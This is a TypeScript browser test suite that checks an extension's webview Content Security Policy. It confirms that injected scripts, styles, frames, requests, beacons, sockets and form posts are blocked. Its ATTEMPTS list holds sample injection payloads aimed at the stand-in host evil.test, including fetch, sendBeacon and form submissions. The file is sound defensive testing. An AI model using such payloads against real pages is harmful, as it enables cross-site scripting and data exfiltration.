/** What each webview's page may do, in a real browser: the policy is the one that the extension writes into it. */

import assert from "node:assert/strict";
import type { Browser, Page } from "playwright-core";
import { pagePolicy } from "../../src/ui/panel/pagePolicy.ts";
import { openPanel, openTables } from "../webview/browser.ts";
import { VIEWS, healthy, viewOf } from "../webview/samples.ts";
import { hostile, tablesView } from "../webview/tableSamples.ts";
import { browserOfSuite } from "./browser.ts";

interface Shown {
  readonly page: Page;
  readonly complaints: readonly string[];
}

/** Every webview there is, with names as nobody should give them. */
const PAGES: Readonly<Record<string, (browser: Browser) => Promise<Shown>>> = {
  "the path": async (browser) => {
    const panel = await openPanel(browser);
    await panel.send({ type: "show", view: VIEWS["hostile"] ?? viewOf(healthy) });
    await panel.page.waitForSelector("svg.walk");
    return panel;
  },
  "the tables": async (browser) => {
    const tables = await openTables(browser);
    await tables.send({ type: "show", view: tablesView(await hostile(), "host") });
    await tables.page.waitForSelector("table");
    return tables;
  },
};

/** What a page that fell to a stranger would try, and the directive that stops it. */
const ATTEMPTS: readonly [what: string, script: string, directive: string][] = [
  ["a script within the page", "tag('script').textContent = 'window.ran = 1'", "script-src"],
  ["a script from elsewhere", "tag('script').src = 'http://evil.test/a.js'", "script-src"],
  ["a handler in an attribute", "tag('b').setAttribute('onclick', 'window.ran = 1')", "script-src"],
  [
    "text that is run", // What the debugger itself runs may call eval.
    "setTimeout(() => { try { eval('window.ran = 1') } catch {} })",
    "script-src",
  ],
  ["a style in an attribute", "tag('b').setAttribute('style', 'color: red')", "style-src"],
  ["a style sheet within the page", "tag('style').textContent = 'b { color: red }'", "style-src"],
  [
    "a style sheet from elsewhere",
    "Object.assign(tag('link'), { rel: 'stylesheet', href: 'http://evil.test/a.css' })",
    "style-src",
  ],
  ["a picture", "tag('img').src = 'http://evil.test/a.png'", "img-src"],
  [
    "a picture in the page",
    "tag('img').src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='",
    "img-src",
  ],
  ["a frame", "tag('iframe').src = 'http://evil.test/'", "frame-src"],
  ["a request", "void fetch('http://evil.test/').catch(() => 0)", "connect-src"],
  ["a beacon", "navigator.sendBeacon('http://evil.test/', 'a')", "connect-src"],
  ["a socket", "try { new WebSocket('ws://evil.test/') } catch {}", "connect-src"],
  ["another base for addresses", "tag('base').href = 'http://evil.test/'", "base-uri"],
  [
    "a form that is sent",
    "const form = tag('form'); form.action = 'http://evil.test/'; form.submit()",
    "form-action",
  ],
];

suite("the policy of every page", function () {
  this.timeout(60_000);
  const browser = browserOfSuite();

  test("it names nothing that is unsafe, and no place but the extension's own", () => {
    const policy = pagePolicy("https://own.example", "n0nce");
    assert.doesNotMatch(policy, /unsafe|\*|data:|blob:|http:/);
    assert.deepEqual(new Set(policy.match(/https:[^ ;]*/g)), new Set(["https://own.example"]));
    assert.match(policy, /^default-src 'none';/);
  });

  for (const [name, open] of Object.entries(PAGES)) {
    test(`${name}: names of a host put no element, style or handler on the page`, async () => {
      const { page, complaints } = await open(browser());
      assert.deepEqual(await page.evaluate(FOREIGN), []);
      assert.deepEqual(complaints, []);
      await page.close();
    });

    test(`${name}: whatever gets into the page, nothing is run, styled, loaded or sent`, async () => {
      const { page } = await open(browser());
      const asked: string[] = [];
      await page.route("**/evil.test/**", (route) => {
        asked.push(route.request().url());
        return route.abort();
      });
      await page.evaluate(LISTEN);
      for (const [what, script, directive] of ATTEMPTS) {
        await page.evaluate(`(() => { violated.length = 0; ${script}; })()`);
        const violated = await firstViolated(page);
        assert.ok(violated.startsWith(directive), `${what}: ${violated}`);
      }
      assert.deepEqual(asked, []);
      assert.equal(await page.evaluate("window.ran"), undefined);
      await page.close();
    });
  }
});

/** What the browser said first. */
async function firstViolated(page: Page): Promise<string> {
  for (let left = 300; left > 0; left -= 1) {
    const [first] = await page.evaluate<string[]>("violated");
    if (first !== undefined) return first;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return "nothing";
}

const LISTEN = `
  globalThis.violated = [];
  document.addEventListener("securitypolicyviolation", (event) => violated.push(event.violatedDirective));
  globalThis.tag = (name) => document.body.appendChild(document.createElement(name));
`;

/** Elements and attributes that none of our pages has. */
const FOREIGN = `[...document.querySelectorAll("*")].flatMap((element) => {
  const bad = element.matches("img, iframe, object, embed, form, base, a[href], script:not([nonce]), style:not([nonce])");
  const on = element.getAttributeNames().filter((name) => /^on|^style$|^srcdoc$|href/.test(name));
  const own = element.matches("html, body, link");
  return (bad || on.length > 0) && !own ? [element.outerHTML.slice(0, 200)] : [];
})`;
